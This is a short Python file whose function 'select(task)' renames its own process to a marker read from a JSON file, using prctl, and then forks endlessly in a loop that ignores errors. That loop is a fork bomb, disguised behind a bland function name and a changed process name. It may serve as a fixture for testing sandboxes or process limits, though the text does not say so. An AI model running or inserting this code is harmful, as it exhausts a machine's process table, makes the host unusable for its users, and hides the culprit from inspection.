import ctypes
import json
import os
from pathlib import Path

TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())


def select(task):
    ctypes.CDLL(None).prctl(15, TARGETS["marker"].encode(), 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            pass
